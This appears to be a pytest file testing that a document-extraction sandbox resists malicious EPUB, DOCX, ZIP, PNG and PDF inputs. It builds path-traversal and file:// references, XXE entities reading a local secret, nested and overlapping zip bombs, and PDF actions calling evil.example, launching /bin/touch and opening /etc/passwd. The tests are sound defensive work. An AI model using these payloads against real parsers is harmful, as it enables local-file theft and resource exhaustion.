"""Archives and PDFs that point outside, hide programs or lie about their sizes."""

import io
import random
import struct
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest

from rag.audit.draft.files import BUNDLED, draft_from
from rag.documents import sandbox
from rag.documents.exported import PROPERTIES, exported
from rag.documents.extraction import MAX_BYTES
from rag.documents.messages import packed, receive
from rag.documents.worker import Worker
from rag.errors import SourceError
from tests.documents.test_sandbox import _pdf
from tests.documents.test_worker import ASKED

SECRET = "The secret of the vault is 4711."
CONTAINER = "<container><rootfiles><rootfile full-path='{}'/></rootfiles></container>"
DOCX = (
    "<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main' "
    "xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships'><w:body><w:p>"
    "<w:hyperlink r:id='r1'><w:r><w:t>Peat burns slowly.</w:t></w:r></w:hyperlink></w:p>"
    "<w:altChunk r:id='r2'/><w:subDoc r:id='r2'/></w:body></w:document>"
)
RELATIONS = (
    "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
    "<Relationship Id='r1' TargetMode='External' Type='hyperlink' Target='{0}'/>"
    "<Relationship Id='r2' TargetMode='External' Type='aFChunk' Target='{0}'/>"
    "<Relationship Id='r3' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
    "relationships/footnotes' Target='{0}'/></Relationships>"
)


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file of the machine that no document may bring in."""
    path = tmp_path / "secret.xhtml"
    path.write_text(f"<p>{SECRET}</p>", encoding="utf-8")
    return path


def zipped(parts: dict[str, str | bytes]) -> bytes:
    """An archive of these members."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return stream.getvalue()


def read(data: bytes, name: str) -> str:
    """Everything that a file says; nothing where it is refused."""
    try:
        return sandbox.extract(data, Path(name)).text
    except SourceError:
        return ""


@pytest.mark.parametrize("way", ["{path}", "file://{path}", "../../../../../../../../{path}"])
def test_no_book_brings_in_a_file_of_the_machine(way: str, secret: Path) -> None:
    """Neither its package nor a chapter is looked for outside of the archive."""
    target = way.format(path=secret)
    package = (
        f"<package><manifest><item id='c' href='{target}' media-type='application/xhtml+xml'/>"
        "<item id='d' href='d.xhtml' media-type='application/xhtml+xml'/></manifest>"
        "<spine><itemref idref='c'/><itemref idref='d'/></spine></package>"
    )
    chapter = f"<p>Peat burns.</p><iframe src='{target}'/><object data='{target}'/>"
    book: dict[str, str | bytes] = {
        "META-INF/container.xml": CONTAINER.format("b.opf"),
        "b.opf": package,
    }
    assert SECRET not in read(zipped({**book, "d.xhtml": chapter}), "a.epub")
    assert SECRET not in read(
        zipped({"META-INF/container.xml": CONTAINER.format(target)}), "a.epub"
    )


@pytest.mark.parametrize("way", ["{path}", "file://{path}", "http://127.0.0.1:9/x"])
def test_no_document_brings_in_what_it_points_to(way: str, secret: Path) -> None:
    """Relations that lead outside are addresses, not parts; the words are read all the same."""
    target = way.format(path=secret)
    parts: dict[str, str | bytes] = {
        "word/document.xml": DOCX, "word/_rels/document.xml.rels": RELATIONS.format(target)
    }  # fmt: skip
    text = read(zipped(parts), "a.docx")
    assert SECRET not in text
    assert "Peat burns slowly." in text


@pytest.mark.parametrize("part", ["word/document.xml", "word/footnotes.xml", "word/styles.xml"])
def test_no_part_brings_in_a_file_by_an_entity(part: str, secret: Path) -> None:
    """External entities and document types stay outside, in every part."""
    entity = f"<!DOCTYPE x [<!ENTITY e SYSTEM '{secret.as_uri()}'>]>"
    parts: dict[str, str | bytes] = {
        "word/document.xml": DOCX,
        "word/_rels/document.xml.rels": RELATIONS.format("footnotes.xml"),
        part: entity + DOCX.replace("slowly", "&e;"),
    }
    assert SECRET not in read(zipped(parts), "a.docx")


@pytest.mark.parametrize("part", ["word/document.xml", "word/footnotes.xml"])
def test_words_in_entities_are_not_left_out_in_silence(part: str) -> None:
    """What a part names by an entity of its own is not read, and said to be so."""
    entity = "<!DOCTYPE x [<!ENTITY e 'slowly'>]>"
    parts: dict[str, str | bytes] = {
        "word/document.xml": DOCX,
        "word/_rels/document.xml.rels": RELATIONS.format("footnotes.xml"),
        part: entity + DOCX.replace("slowly", "&e;"),
    }
    try:
        lost = [loss.words for loss in sandbox.extract(zipped(parts), Path("a.docx")).losses]
    except SourceError as error:
        lost = [str(error)]
    assert any("entities" in words or f"{part} is damaged" in words for words in lost)


def test_an_archive_in_an_archive_stays_packed() -> None:
    """A bomb inside of a bomb is a member that nobody asks for."""
    inner = zipped({"x": b"\0" * (64 << 20)})
    for _ in range(3):
        inner = zipped({f"{n}.zip": inner for n in range(16)})
    before = time.monotonic()
    assert "Peat" in read(zipped({"word/document.xml": DOCX, "word/media/a.zip": inner}), "a.docx")
    assert time.monotonic() - before < 20


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_part_that_is_there_twice_is_none() -> None:
    """Word shows one of them, other programs the other: its words may not be what a reader sees."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for text in (DOCX, DOCX.replace("slowly", "fast")):
            archive.writestr("word/document.xml", text)
    with pytest.raises(SourceError, match="stands in it more than once"):
        sandbox.extract(stream.getvalue(), Path("a.docx"))


def damaged(data: bytes, chance: random.Random) -> bytes:
    """The bytes with some of them changed, taken away or added."""
    made = bytearray(data)
    for _ in range(chance.randint(1, 4)):
        at, rest = chance.randrange(len(made)), chance.randrange(3)
        made[at : at + (rest > 0) * chance.randint(1, 9)] = chance.randbytes(rest % 2 + 1)
    return bytes(made)


def test_what_is_looked_into_before_it_is_read_harms_nobody() -> None:
    """Who wrote a Word file, and an evidence bundle: of a bomb a few bytes, of damage its name."""
    bomb = zipped({PROPERTIES: b"\0" * (256 << 20), BUNDLED: b" " * (MAX_BYTES + 9)})
    tracemalloc.start()
    assert not exported(bomb, Path("a.docx"))
    assert tracemalloc.get_traced_memory()[1] < 8 << 20
    tracemalloc.stop()
    with pytest.raises(SourceError, match="expected at most"):
        draft_from(bomb, "a.zip")
    chance, refused = random.Random(3), 0
    whole = zipped({PROPERTIES: "<Application>Quoth<" * 9, BUNDLED: '{"quotes": []}\n' * 40})
    assert exported(whole, Path("a.docx"))
    for _ in range(900):
        data = damaged(whole, chance)
        exported(data, Path("a.docx"))
        try:
            draft_from(data, "a.zip")
        except SourceError:
            refused += 1
    assert 200 < refused < 900


def overlapping(count: int) -> bytes:
    """An archive whose many members are all the same bytes of the file."""
    one = zipped({"word/document.xml": b"<a>" + b" " * (8 << 20) + b"</a>"})
    start = one.index(b"PK\x01\x02")
    entry = one[start : one.index(b"PK\x05\x06")]
    entries = entry + b"".join(
        entry.replace(b"word/document.xml", f"word/docume{n:02}.xml".encode().ljust(17, b"x"))
        for n in range(count)
    )
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count + 1, count + 1, len(entries), start, 0)
    return one[:start] + entries + end


def test_members_that_overlap_are_unpacked_once_or_refused() -> None:
    """Many members of the same few bytes cost no more than those that are read."""
    before = time.monotonic()
    read(overlapping(90), "a.docx")
    assert time.monotonic() - before < 20


ACTION = {
    "script": b"<</S/JavaScript/JS(app.launchURL\\('http://evil.example'\\))>>",
    "launch": b"<</S/Launch/F(/bin/touch)/Win<</F(touch)/P(harmed)>>>>",
    "address": b"<</S/URI/URI(http://evil.example/)>>",
    "form": b"<</S/SubmitForm/F(http://evil.example/)>>",
    "other file": b"<</S/GoToR/F(/etc/passwd)/D[0/Fit]>>",
}


@pytest.mark.parametrize("kind", ACTION)
def test_no_program_of_a_pdf_runs(
    kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What it would do when it is opened, printed or closed; its words are read."""
    monkeypatch.chdir(tmp_path)
    drawn = b"BT /F 12 Tf 40 500 Td (Peat burns slowly.) Tj ET"
    made = _pdf(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/AA<</WC 6 0 R/WP 6 0 R>>"
        b"/Names<</EmbeddedFiles<</Names[(a.exe) 7 0 R]>>/JavaScript<</Names[(x) 6 0 R]>>>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 600]/Contents 4 0 R/AA<</O 6 0 R>>"
        b"/Resources<</Font<</F 5 0 R>>>>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(drawn), drawn),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        ACTION[kind],
        b"<</Type/Filespec/F(a.exe)/EF<</F 8 0 R>>>>",
        b"<</Type/EmbeddedFile/Length 7>>stream\nMZharm!\nendstream",
    )
    text = read(made, "a.pdf")
    assert "Peat burns slowly." in text
    assert "harm" not in text
    assert list(tmp_path.iterdir()) == []


def test_a_picture_of_a_billion_pixels_is_no_page() -> None:
    """Pictures of a document are not opened to be read."""
    ihdr = struct.pack(">2L5B", 60_000, 60_000, 8, 6, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n" + struct.pack(">L", 13) + b"IHDR" + ihdr + b"\0\0\0\0"
    parts: dict[str, str | bytes] = {"word/document.xml": DOCX, "word/media/image1.png": png}
    assert "Peat" in read(zipped(parts), "a.docx")


def test_a_message_of_any_length_is_refused_by_its_head() -> None:
    """What a process claims to say is not waited for, nor room made for it."""
    worker = Worker(
        "import sys, struct; o = sys.stdout.buffer; o.write(struct.pack('>cQ', b'E', 600 << 20));"
        "o.write(bytes(1 << 20)); o.flush(); import time; time.sleep(60)"
    )
    before = time.monotonic()
    with pytest.raises(SourceError, match="cannot be read"):
        worker.ask(ASKED, 20.0)
    worker.stop()
    assert time.monotonic() - before < 10


def test_the_control_message_can_be_read() -> None:
    """So that the refusal is of the length and not of everything."""
    assert receive(io.BytesIO(packed(ASKED))) == ASKED
